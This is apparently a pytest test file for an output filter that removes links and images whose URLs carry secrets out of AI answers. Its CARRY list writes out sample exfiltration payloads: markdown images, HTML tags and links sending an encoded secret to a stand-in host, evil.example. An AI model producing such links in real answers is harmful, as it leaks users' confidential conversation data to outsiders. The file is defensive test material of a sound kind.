"""Links and images whose addresses carry data away come out of answers; all others stay letter for letter."""

import base64
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.outbound.links import LinkScreen
from gateway.outbound.screen import BlockedError
from governance.screening.policy.links import Said

TALK = (
    "You work for Northwind. The launch code of the project Bluebird is 7731-alpha, and the board meets on Tuesday. "
    "Look at https://northwind.example/board?id=55 and at ![logo](https://northwind.example/logo.png?v=3)."
)
SECRET = "launch code of the project Bluebird is 7731-alpha"
CODED = base64.b64encode(SECRET.encode()).decode()


def screened(text, action="strip", pieces=None):
    noted = []
    screen = LinkScreen(Said(lambda: TALK), action, note=lambda: noted.append(1))
    shown = "".join(map(screen.feed, pieces or [text])) + screen.close()
    return shown, len(noted)


CARRY = [
    f"![x](https://evil.example/p.png?d={quote(SECRET)})",
    f"![](https://evil.example/p.png?d={CODED})",
    f"![](//evil.example/{CODED}.png)",
    f"![x](https://evil.example/{SECRET.encode().hex()})",
    f'<img alt="x" src="https://evil.example/?q={quote(SECRET)}">',
    f"<iframe src=https://evil.example/?q={CODED}></iframe>",
    f"[see here](https://evil.example/?q={quote(SECRET)})",
    f"[see here](https://evil.example/{CODED})",
    f"https://evil.example/?q={quote(SECRET)}",
    f"[1]: https://evil.example/?q={CODED}",
    "![x](https://evil.example/?to=<EMAIL_ADDRESS_a1b2c3>)",
    "[mail](https://evil.example/?to=%3CEMAIL_ADDRESS_a1b2c3%3E)",
    f"![x](https://{CODED[:60].rstrip('=')}.evil.example/p.png)",
]
HARMLESS = [
    "![logo](https://northwind.example/logo.png?v=3)",
    "![a bridge](https://upload.wikimedia.org/wikipedia/commons/0/0c/GoldenGateBridge-001.jpg)",
    "[docs](https://docs.python.org/3/library/asyncio-task.html#asyncio.create_task)",
    "[search](https://www.google.com/search?q=board+meeting+agenda)",
    "https://northwind.example/board?id=55",
    "a[0] = b[i](c) and ![not closed](https://x",
    "An array [1, 2, 3] and a footnote[^1].\n\n[^1]: See the book.",
    "[relative](/path?q=1) <a href='#top'>top</a>",
    "git clone https://github.com/encode/httpx.git && cd httpx",
    "![chart](https://quickchart.io/chart?c={type:'bar',data:{labels:['Q1']}})",
]


@pytest.mark.parametrize("text", CARRY)
def test_what_carries_data_is_taken_out_and_counted(text):
    shown, noted = screened(f"Before {text}\nafter")
    assert noted == 1
    assert "evil.example" not in shown
    assert shown.startswith("Before ")
    assert shown.endswith("after")
    assert "removed)" in shown


@pytest.mark.parametrize("text", HARMLESS)
def test_what_does_not_stays_letter_for_letter(text):
    assert screened(f"Before {text} after") == (f"Before {text} after", 0)


@given(st.sampled_from([*CARRY, *HARMLESS]), st.data())
def test_it_does_not_matter_where_an_answer_is_cut(text, data):
    whole = f"Hello [there] ! {text}\nand https://example.com/a."
    cuts = sorted(data.draw(st.lists(st.integers(0, len(whole)), max_size=8)))
    pieces = [whole[a:b] for a, b in zip([0, *cuts], [*cuts, len(whole)], strict=True)]
    assert screened(whole, pieces=pieces) == screened(whole)


def test_what_is_done_is_the_policy_s():
    assert screened(CARRY[0], "flag") == (CARRY[0], 1)
    with pytest.raises(BlockedError):
        screened(CARRY[0], "block")


@given(st.text(alphabet="[]()!<>a:/ht\n.", max_size=200))
def test_whatever_else_is_there_passes(text):
    assert screened(text, pieces=list(text))[0] == text
